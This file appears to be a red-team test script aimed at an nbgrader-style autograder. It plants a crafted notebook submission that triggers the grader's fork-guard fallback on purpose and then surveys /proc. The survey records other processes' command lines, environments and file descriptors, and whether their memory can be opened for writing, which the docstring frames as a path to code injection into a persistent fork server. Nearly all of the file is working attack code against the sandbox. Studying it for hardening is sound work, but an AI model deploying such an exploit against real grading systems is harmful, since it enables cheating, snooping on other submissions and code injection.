"""Round 11, a01 (ROOT run): flip the observer into helpers.launch's fork server, then look around
from a rank the fork server made.

What it tries: helpers.launch has a safety net: when a rank forked from the caller fails with
autograd's fork-guard message (_AUTOGRAD_FORK_ERROR), the caller sets _FORK_BROKEN = True for good and
re-launches through multiprocessing's fork server. A student rank can raise that message itself (the
message is the student's text). In the observer this switches every later rank AND every later
`in_child` call of that submission to the fork server, an exec'd process that is dumpable (execve
resets PR_SET_DUMPABLE), unlike the observer's forked children, and that the observer keeps across
calls (observer._sweep keeps it). The rank of the retried launch then reports: its dumpability, its
parent's (the fork server), whether it can open the fork server's /proc/<pid>/mem for WRITING
(code injection into a process that outlives the call), its sibling rank's memory, the observer's.
Result: see a01.out.txt.

Usage: python a01_fork_broken_flip_forkserver_ranks.py COURSE_DIR STUDENT
"""
import json, pathlib, sys

course, student = pathlib.Path(sys.argv[1]), sys.argv[2]
root = pathlib.Path(__file__).resolve().parents[3]
nb = json.loads((root / "release/ps1_memory/ps1_memory.ipynb").read_text())
CODE = r'''
def two_stage_step(stage, batch, target, loss_fn, activation_shape):
    import os, sys, json, ctypes
    L = sys.modules["helpers.launch"]
    if not L._FRESH_RANK:            # a rank forked from the observer: ask for the fork server
        raise RuntimeError(L._AUTOGRAD_FORK_ERROR)
    libc = ctypes.CDLL(None, use_errno=True)
    info = {"pid": os.getpid(), "ppid": os.getppid(), "dumpable": libc.prctl(3, 0, 0, 0, 0),
            "rank": os.environ.get("RANK")}
    procs = {}
    for p in sorted(int(x) for x in os.listdir("/proc") if x.isdigit()):
        d = {}
        try: d["cmd"] = open(f"/proc/{p}/cmdline", "rb").read()[:80].decode("latin1").replace("\0", " ")
        except OSError as e: d["cmd"] = e.errno
        for mode in ("rb", "r+b"):
            try:
                with open(f"/proc/{p}/mem", mode): d["mem_" + mode] = "OPEN"
            except OSError as e: d["mem_" + mode] = e.errno
        try: d["env"] = len(open(f"/proc/{p}/environ", "rb").read())
        except OSError as e: d["env"] = e.errno
        try: d["fds"] = os.listdir(f"/proc/{p}/fd")[:20]
        except OSError as e: d["fds"] = e.errno
        procs[p] = d
    info["procs"] = procs
    raise RuntimeError("RECON " + json.dumps(info))
'''
for c in nb["cells"]:
    if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "two_stage_step":
        c["source"] = CODE
d = course / "submitted" / student / "ps1_memory"
d.mkdir(parents=True, exist_ok=True)
(d / "ps1_memory.ipynb").write_text(json.dumps(nb))
print("written", d)
